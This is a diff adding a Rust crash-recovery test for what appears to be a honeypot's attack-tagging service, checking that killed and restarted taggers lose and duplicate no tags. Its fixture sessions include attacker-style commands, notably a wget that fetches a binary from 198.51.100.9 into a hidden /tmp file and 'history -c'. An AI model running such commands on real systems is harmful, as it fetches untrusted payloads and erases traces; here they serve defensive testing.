@@ -1,0 +1,206 @@
+//! At-least-once through a crash: 20,000 session events, the tagger killed with SIGKILL
+//! halfway and started again. The tag table must equal what the engine gives offline —
+//! nothing lost, nothing duplicated — and every message that created rows must be announced
+//! on `ttp.tagged` exactly once (the outbox survives the crash, the msg id dedups a repeat).
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use async_nats::jetstream;
+use bytes::Bytes;
+use decnet_storage::{Database, Options};
+use decnet_test_support::NatsServer;
+use decnet_ttp::fanout::from_message;
+use futures_util::StreamExt;
+use serde_json::{Value, json};
+use uuid::Uuid;
+
+const EVENTS: usize = 20_000;
+const COMMANDS: [&str; 6] = [
+    "uname -a",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "echo hello",
+    "cd /tmp; wget http://198.51.100.9/x86 -O .x",
+    "ls -la",
+    "history -c",
+];
+
+fn session(i: usize) -> Value {
+    let ip = format!("10.{}.{}.{}", i / 65_536, (i / 256) % 256, i % 256);
+    let commands: Vec<Value> = (0..(1 + i % 3))
+        .map(|k| json!({"command_text": COMMANDS[(i + k) % COMMANDS.len()], "ts": "2026-12-04T10:00:00Z"}))
+        .collect();
+    json!({"session_id": format!("crash-{i}"), "attacker_ip": ip, "decky_id": "decoy-01",
+        "service": "ssh", "ended_at": "2026-12-04T10:01:00Z", "duration_s": 60.0, "commands": commands})
+}
+
+fn tagger(nats: &str, db: &str) -> Child {
+    Command::new(env!("CARGO_BIN_EXE_decnet"))
+        .args([
+            "tagger",
+            "--nats-url",
+            nats,
+            "--database-url",
+            db,
+            "--rules-dir",
+            "rules/ttp",
+        ])
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .env("DECNET_LOG", "error")
+        .stdout(Stdio::null())
+        .stderr(Stdio::inherit())
+        .spawn()
+        .unwrap()
+}
+
+async fn pending(js: &jetstream::Context) -> Option<(u64, usize)> {
+    let stream = js.get_stream("EVENTS").await.ok()?;
+    let mut c = stream
+        .get_consumer::<jetstream::consumer::pull::Config>("tagger")
+        .await
+        .ok()?;
+    let info = c.info().await.ok()?.clone();
+    Some((info.num_pending, info.num_ack_pending))
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_tagger_killed_mid_stream_loses_and_duplicates_nothing() {
+    let server = NatsServer::start().unwrap();
+    let client = decnet_bus::connect(&server.url(), "crash-test", Duration::from_secs(5))
+        .await
+        .unwrap();
+    let js = jetstream::new(client);
+    decnet_bus::ensure_streams(&js, &["EVENTS", "TTP", "DLQ"])
+        .await
+        .unwrap();
+    let bodies: Vec<Value> = (0..EVENTS).map(session).collect();
+    for (i, body) in bodies.iter().enumerate() {
+        decnet_bus::publish(
+            &js,
+            "attacker.session.ended",
+            &format!("attacker.session.ended:decoy-01:crash-{i}"),
+            &BTreeMap::new(),
+            Bytes::from(serde_json::to_vec(body).unwrap()),
+        )
+        .await
+        .unwrap();
+    }
+    let index =
+        decnet_tagger::load_rules(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/ttp")))
+            .unwrap();
+    let per_body: Vec<BTreeSet<Uuid>> = bodies
+        .iter()
+        .map(|b| {
+            from_message("attacker.session.ended", b)
+                .unwrap()
+                .events
+                .iter()
+                .flat_map(|e| index.evaluate(e, chrono::Utc::now()).tags)
+                .map(|t| t.uuid)
+                .collect()
+        })
+        .collect();
+    let want: BTreeSet<Uuid> = per_body.iter().flatten().copied().collect();
+
+    let dir = tempfile::tempdir().unwrap();
+    let db_url = format!("sqlite://{}", dir.path().join("decnet.db").display());
+    let mut first = tagger(&server.url(), &db_url);
+    // Wait for the database, then for the tagger to be part-way through.
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(120);
+    let db = loop {
+        if let Ok(db) = Database::connect(&db_url, &Options::default()).await {
+            break db;
+        }
+        assert!(tokio::time::Instant::now() < deadline);
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    loop {
+        let n = db.tag_count().await.unwrap_or(0) as usize;
+        if n >= want.len() / 3 {
+            break;
+        }
+        assert!(
+            tokio::time::Instant::now() < deadline,
+            "the tagger made no progress ({n})"
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+    first.kill().unwrap(); // SIGKILL: no drain, no final publish.
+    first.wait().unwrap();
+    let at_kill = db.tag_count().await.unwrap() as usize;
+    assert!(
+        at_kill < want.len(),
+        "killed after the end ({at_kill}): the test proves nothing"
+    );
+
+    let mut second = tagger(&server.url(), &db_url);
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(300);
+    loop {
+        let drained = pending(&js).await == Some((0, 0));
+        if drained && db.pending_count("tagger").await.unwrap() == 0 {
+            break;
+        }
+        assert!(
+            tokio::time::Instant::now() < deadline,
+            "the restarted tagger did not finish"
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    second.kill().unwrap();
+    second.wait().unwrap();
+
+    let stored: Vec<Uuid> = db.tags().await.unwrap().iter().map(|t| t.uuid).collect();
+    let stored_set: BTreeSet<Uuid> = stored.iter().copied().collect();
+    assert_eq!(stored.len(), stored_set.len());
+    assert_eq!(
+        stored_set,
+        want,
+        "killed at {at_kill} of {} tags",
+        want.len()
+    );
+
+    // ttp.tagged: one per message that created rows, none lost in the crash, none repeated.
+    let ttp = js.get_stream("TTP").await.unwrap();
+    let reader = ttp
+        .create_consumer(jetstream::consumer::pull::Config {
+            filter_subject: "ttp.tagged".into(),
+            ..Default::default()
+        })
+        .await
+        .unwrap();
+    let mut announced: Vec<Uuid> = Vec::new();
+    let mut messages = 0;
+    loop {
+        let mut batch = reader
+            .fetch()
+            .max_messages(2000)
+            .expires(Duration::from_millis(500))
+            .messages()
+            .await
+            .unwrap();
+        let before = messages;
+        while let Some(m) = batch.next().await {
+            let m = m.unwrap();
+            let body: Value = serde_json::from_slice(&m.payload).unwrap();
+            announced.extend(
+                body["tag_uuids"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .map(|u| u.as_str().unwrap().parse::<Uuid>().unwrap()),
+            );
+            messages += 1;
+            m.ack().await.unwrap();
+        }
+        if messages == before {
+            break;
+        }
+    }
+    let with_tags = per_body.iter().filter(|s| !s.is_empty()).count();
+    assert_eq!(messages, with_tags);
+    assert_eq!(announced.len(), want.len());
+    assert_eq!(announced.into_iter().collect::<BTreeSet<_>>(), want);
+    drop(server);
+}
